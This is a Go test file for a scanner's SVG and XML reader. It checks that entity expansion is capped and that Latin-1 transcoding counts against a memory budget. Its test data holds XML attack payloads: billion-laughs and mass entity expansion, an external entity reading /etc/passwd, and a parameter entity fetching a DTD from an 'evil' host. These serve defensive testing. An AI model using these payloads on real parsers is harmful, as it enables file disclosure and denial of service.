package container

import (
	"bytes"
	"errors"
	"runtime"
	"strings"
	"testing"

	"github.com/provscan/provscan/provenance/internal/reader"
	"github.com/provscan/provscan/provenance/readerr"
)

// svgWithDTD is an SVG document with the internal subset dtd and body
// inside a <metadata> element.
func svgWithDTD(dtd, body string) []byte {
	return []byte(`<?xml version="1.0"?><!DOCTYPE svg [` + dtd + `]><svg xmlns="http://www.w3.org/2000/svg"><metadata>` + body + `</metadata></svg>`)
}

// hostileSVGs are the entity shapes of issue 12, each about 3 MB or less.
func hostileSVGs() map[string][]byte {
	big := `<!ENTITY e "` + strings.Repeat("x", 4096) + `">`
	laughs := `<!ENTITY l0 "lol">`
	for i := 1; i < 10; i++ {
		laughs += `<!ENTITY l` + string(rune('0'+i)) + ` "` + strings.Repeat("&l"+string(rune('0'+i-1))+";", 10) + `">`
	}
	return map[string][]byte{
		// 3 MB: one 4 KiB entity referenced a million times (4 GiB expanded)
		"one entity x millions": svgWithDTD(big, strings.Repeat("&e;", 1<<20)),
		// the same in an attribute value of many elements
		"attributes": []byte(`<!DOCTYPE svg [` + big + `]><svg xmlns="http://www.w3.org/2000/svg">` +
			strings.Repeat(`<g a="&e;&e;&e;&e;&e;&e;&e;&e;"/>`, 1<<16) + `</svg>`),
		"billion laughs": svgWithDTD(laughs, "&l9;"),
		"external":       svgWithDTD(`<!ENTITY x SYSTEM "file:///etc/passwd">`, "&x;"),
		"parameter":      svgWithDTD(`<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;`, "hello"),
		"recursive":      svgWithDTD(`<!ENTITY a "&b;"><!ENTITY b "&a;">`, "&a;"),
	}
}

// allocated returns the bytes f allocates.
func allocated(f func()) uint64 {
	var a, b runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&a)
	f()
	runtime.ReadMemStats(&b)
	return b.TotalAlloc - a.TotalAlloc
}

// TestSVGEntityExpansion: entity references are counted before any is
// expanded; past svgMaxExpansion the document is refused (errLimit), and
// external, parameter and recursive entities are never declared, so that no
// shape allocates much more than the document itself.
func TestSVGEntityExpansion(t *testing.T) {
	for name, doc := range hostileSVGs() {
		t.Run(name, func(t *testing.T) {
			var res *Result
			var err error
			n := allocated(func() { res, err = readSVG(bytes.NewReader(doc), int64(len(doc)), nil) })
			t.Logf("%d-byte document: %d bytes allocated, err %v", len(doc), n, err)
			if n > 4<<20 {
				t.Errorf("allocated %d bytes for a %d-byte document", n, len(doc))
			}
			for _, b := range res.Blocks {
				if len(b.Data) > svgMaxExpansion+len(doc) {
					t.Errorf("block of %d bytes", len(b.Data))
				}
			}
			if len(doc) > 1<<20 && !errors.Is(err, errLimit) {
				t.Errorf("err = %v, want the expansion refused as over a limit", err)
			}
		})
	}
}

// TestSVGEntitiesWithinLimits: Illustrator's namespace entities, and
// references adding up to the expansion cap, are still expanded.
func TestSVGEntitiesWithinLimits(t *testing.T) {
	doc := []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY t "` + strings.Repeat("y", 1000) + `">]>` +
		`<svg xmlns="&ns_svg;"><metadata>` + strings.Repeat("&t;", svgMaxExpansion/1000-1) + `</metadata></svg>`)
	res, err := readSVG(bytes.NewReader(doc), int64(len(doc)), nil)
	if err != nil || len(res.Blocks) != 1 || res.Blocks[0].Kind != KindText || len(res.Blocks[0].Data) != (svgMaxExpansion/1000-1)*1000 {
		t.Fatalf("err %v, blocks %d", err, len(res.Blocks))
	}
	// a reference split across two reads of the count is counted
	split := []byte(strings.Repeat("a", 64<<10-1) + "&e;&e;")
	if n, _ := svgExpansion(bytes.NewReader(split), 0, int64(len(split)), map[string]int{"e": 4096}); n != 2*4096 {
		t.Errorf("counted %d bytes, want %d", n, 2*4096)
	}
}

// TestLatin1TextCountsAgainstMemory: the UTF-8 text a Latin-1 document is
// transcoded to is held memory of the file's budget: a document whose
// transcoding exceeds it stops with a limit error instead of growing.
func TestLatin1TextCountsAgainstMemory(t *testing.T) {
	doc := append([]byte(`<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"><metadata>`), bytes.Repeat([]byte{0xE9}, 256<<10)...)
	doc = append(doc, "</metadata></svg>"...)
	b := reader.NewBudget(reader.Limits{Memory: 64 << 10}, nil)
	_, err := readSVG(bytes.NewReader(doc), int64(len(doc)), b)
	if !errors.Is(err, readerr.ErrLimit) {
		t.Errorf("err = %v, want a limit error", err)
	}
}

// TestLatin1XMLCountsAgainstMemory: the same for an XML document.
func TestLatin1XMLCountsAgainstMemory(t *testing.T) {
	doc := append([]byte(`<?xml version="1.0" encoding="ISO-8859-1"?><Notes><Note>`), bytes.Repeat([]byte{0xE9}, 256<<10)...)
	doc = append(doc, "</Note></Notes>"...)
	b := reader.NewBudget(reader.Limits{Memory: 64 << 10}, nil)
	_, err := readXMLDoc(bytes.NewReader(doc), int64(len(doc)), b)
	if !errors.Is(err, readerr.ErrLimit) {
		t.Errorf("err = %v, want a limit error", err)
	}
}
